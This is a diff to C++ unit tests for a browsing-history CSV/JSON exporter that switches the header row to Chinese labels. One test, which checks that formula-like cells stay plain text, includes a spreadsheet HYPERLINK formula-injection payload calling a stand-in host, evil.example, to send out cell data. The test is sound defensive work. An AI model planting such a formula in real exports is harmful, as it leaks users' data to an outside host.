@@ -111,7 +111,7 @@ TEST(HistoryExportTest, StandardReadersGetTheSameEntriesBack) {
     EXPECT_FALSE(ExportHistory(docs, dir.File("history.txt")));
     EXPECT_EQ(dir.Read("历史.CSV").substr(0, 3), "\xEF\xBB\xBF");
 
-    std::string expected = "csv\n" + Row({"kind", "name", "address", "group", "date"});
+    std::string expected = "csv\n" + Row({"类型", "名称", "地址", "分组", "日期"});
     std::string rows;
     for (const TMyDoc& doc : docs) {
         rows +=
@@ -129,7 +129,7 @@ TEST(HistoryExportTest, CellsThatLookLikeFormulasStayText) {
     const DocTable docs = {Doc(dkWebPage, "http://evil.example/", link, "+evil", "-1"),
                            Doc(dkWebPage, "@SUM(A1)", "\tTab", "\rCR", "2026-12-08")};
     EXPECT_EQ(HistoryAsCsv(docs),
-              "\xEF\xBB\xBFkind,name,address,group,date\r\n"
+              "\xEF\xBB\xBF类型,名称,地址,分组,日期\r\n"
               "网页,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
               "http://evil.example/,'+evil,'-1\r\n"
               "网页,'\tTab,'@SUM(A1),\"'\rCR\",2026-12-08\r\n");
@@ -138,7 +138,7 @@ TEST(HistoryExportTest, CellsThatLookLikeFormulasStayText) {
 }
 
 TEST(HistoryExportTest, AnEmptyHistoryGivesAHeaderAndAnEmptyArray) {
-    EXPECT_EQ(HistoryAsCsv({}), "\xEF\xBB\xBFkind,name,address,group,date\r\n");
+    EXPECT_EQ(HistoryAsCsv({}), "\xEF\xBB\xBF类型,名称,地址,分组,日期\r\n");
     EXPECT_EQ(HistoryAsJson({}), "[]\n");
 }
 
